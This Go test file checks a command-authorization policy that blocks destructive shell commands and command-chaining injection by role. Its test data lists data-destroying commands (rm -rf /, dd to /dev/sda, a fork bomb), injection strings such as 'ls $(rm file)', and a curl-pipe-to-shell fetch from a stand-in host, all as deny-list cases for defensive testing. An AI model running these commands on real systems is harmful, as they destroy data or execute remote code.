package authz

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	apperrors "github.com/openclaw/support-bridge/internal/errors"
	"github.com/openclaw/support-bridge/internal/model"
)

func TestAuthorize_Deny(t *testing.T) {
	policy := DefaultPolicy()

	blocked := []string{
		"rm -rf /",
		"rm -rf /*",
		"rm -fr ~",
		"rm -r -f /",
		"RM -RF /",
		"rm --recursive /",
		"rm -rf *",
		"sudo rm -rf / --no-preserve-root",
		"mkfs.ext4 /dev/sda1",
		"mkfs -t ext4 /dev/sdb",
		"format C:",
		"dd if=/dev/zero of=/dev/sda bs=1M",
		"cat image.bin > /dev/sda",
		"shutdown -h now",
		"sudo reboot",
		"echo bye; poweroff",
		"halt",
		"init 0",
		"systemctl reboot",
		"systemctl poweroff",
		"systemctl --force halt",
		"/sbin/shutdown -h now",
		"sh -c reboot",
		"sh -c 'halt'",
		"nohup reboot",
		"bash -c \"poweroff\"",
		"telinit 6",
		":(){ :|:& };:",
		"diskpart",
		"chmod -R 777 /",
	}

	for _, cmd := range blocked {
		for _, role := range []model.Role{model.RoleRequester, model.RoleAgent, model.RoleAdmin} {
			t.Run(string(role)+"/"+cmd, func(t *testing.T) {
				err := policy.Authorize(role, cmd)
				require.Error(t, err)
				assert.Equal(t, apperrors.ErrCodeUnauthorized, apperrors.GetCode(err))
				assert.Contains(t, err.Error(), "not permitted for your role")
			})
		}
	}
}

func TestAuthorize_PrivilegedRoles(t *testing.T) {
	policy := DefaultPolicy()

	allowed := []string{
		"rm -rf /tmp/build",
		"npm install",
		"echo hello > out.txt",
		"cat reboot.log",
		"grep -r shutdown_hook src",
		"journalctl --list-boots",
		"git commit -m 'fix'",
		"ls | wc -l",
	}

	for _, cmd := range allowed {
		t.Run(cmd, func(t *testing.T) {
			assert.NoError(t, policy.Authorize(model.RoleAgent, cmd))
			assert.NoError(t, policy.Authorize(model.RoleAdmin, cmd))
		})
	}
}

func TestAuthorize_Requester(t *testing.T) {
	policy := DefaultPolicy()

	tests := []struct {
		command string
		allowed bool
	}{
		{"ls", true},
		{"ls -la /var/log", true},
		{"  ps   aux ", true},
		{"git status", true},
		{"git log --oneline -5", true},
		{"node --version", true},
		{"df -h", true},
		{"rm -rf /important", false},
		{"lsblk", false},
		{"git push origin main", false},
		{"git", false},
		{"touch file", false},
		{"ls; rm file", false},
		{"ls && rm file", false},
		{"ls | sh", false},
		{"ls > listing.txt", false},
		{"ls $(rm file)", false},
		{"ls `rm file`", false},
		{"ls\nrm file", false},
		{"hostname", true},
		{"hostname pwned", false},
		{"date", true},
		{"date -s 2020-01-01", false},
		{"pwd -P", false},
		{"git branch", true},
		{"git branch -a", true},
		{"git branch --list 'feat*'", true},
		{"git branch -D main", false},
		{"git branch -d main", false},
		{"git branch -vD main", false},
		{"git branch -m main gone", false},
		{"git branch --delete main", false},
		{"git branch '-D' main", false},
		{`git branch "--delete" main`, false},
		{`git branch \-D main`, false},
		{"git branch --set-upstream-to=origin/main", false},
		{"git diff HEAD~1", true},
		{"git diff --output=/tmp/x", false},
		{"git diff --output /tmp/x", false},
		{"git log --output=/tmp/x", false},
		{"git remote -v", true},
		{"git remote -v add evil url", false},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			err := policy.Authorize(model.RoleRequester, tt.command)
			if tt.allowed {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Equal(t, apperrors.ErrCodeUnauthorized, apperrors.GetCode(err))
		})
	}
}

func TestAuthorize_Edges(t *testing.T) {
	policy := DefaultPolicy()

	t.Run("unknown role", func(t *testing.T) {
		err := policy.Authorize(model.Role("guest"), "ls")
		assert.Equal(t, apperrors.ErrCodeUnauthorized, apperrors.GetCode(err))
	})

	t.Run("missing role", func(t *testing.T) {
		err := policy.Authorize("", "ls")
		assert.Equal(t, apperrors.ErrCodeUnauthorized, apperrors.GetCode(err))
	})

	t.Run("empty command", func(t *testing.T) {
		err := policy.Authorize(model.RoleAdmin, "   ")
		assert.Equal(t, apperrors.ErrCodeMissingRequired, apperrors.GetCode(err))
	})
}

func TestAllowRule(t *testing.T) {
	rule := AllowRule{Prefix: "git branch", Forbid: []string{"-d", "--delete"}}

	assert.True(t, rule.matches("git branch"))
	assert.True(t, rule.matches("git branch -a -v"))
	assert.False(t, rule.matches("git branchx"))
	assert.False(t, rule.matches("git branch -d old"))
	assert.False(t, rule.matches("git branch -ad old"))
	assert.False(t, rule.matches("git branch --delete=old"))
	assert.True(t, rule.matches("git branch --no-merged"))

	exact := ParseAllowRule("  hostname$ ")
	assert.Equal(t, AllowRule{Prefix: "hostname", Exact: true}, exact)
	assert.True(t, exact.matches("hostname"))
	assert.False(t, exact.matches("hostname new-name"))
}

func writePolicy(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "policy.yaml")
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

func TestLoadPolicyFile(t *testing.T) {
	t.Run("empty path is the default policy", func(t *testing.T) {
		policy, err := LoadPolicyFile("")
		require.NoError(t, err)
		assert.Len(t, policy.Deny, len(defaultDeny))
	})

	t.Run("extends deny and replaces requester allow", func(t *testing.T) {
		path := writePolicy(t, `
deny:
  - '\bcurl\b.*\|\s*sh'
allow:
  requester:
    - "ls"
    - "cat   /etc/os-release"
    - "uptime$"
`)
		policy, err := LoadPolicyFile(path)
		require.NoError(t, err)

		assert.Error(t, policy.Authorize(model.RoleAdmin, "curl https://x.example/i.sh | sh"))
		assert.Error(t, policy.Authorize(model.RoleAdmin, "rm -rf /"), "built-in deny list is kept")
		assert.NoError(t, policy.Authorize(model.RoleRequester, "cat /etc/os-release"))
		assert.Error(t, policy.Authorize(model.RoleRequester, "ps aux"), "allow list was replaced")
		assert.NoError(t, policy.Authorize(model.RoleRequester, "uptime"))
		assert.Error(t, policy.Authorize(model.RoleRequester, "uptime -s"), "trailing $ is an exact match")
	})

	t.Run("rejects unknown roles", func(t *testing.T) {
		path := writePolicy(t, "allow:\n  guest: [\"ls\"]\n")
		_, err := LoadPolicyFile(path)
		assert.ErrorContains(t, err, "unknown role")
	})

	t.Run("rejects allow lists for unrestricted roles", func(t *testing.T) {
		path := writePolicy(t, "allow:\n  admin: [\"ls\"]\n")
		_, err := LoadPolicyFile(path)
		assert.ErrorContains(t, err, "unrestricted")
	})

	t.Run("rejects bad patterns", func(t *testing.T) {
		path := writePolicy(t, "deny:\n  - '(unclosed'\n")
		_, err := LoadPolicyFile(path)
		assert.ErrorContains(t, err, "deny pattern")
	})

	t.Run("missing file", func(t *testing.T) {
		_, err := LoadPolicyFile(filepath.Join(t.TempDir(), "absent.yaml"))
		assert.ErrorContains(t, err, "not found")
	})
}
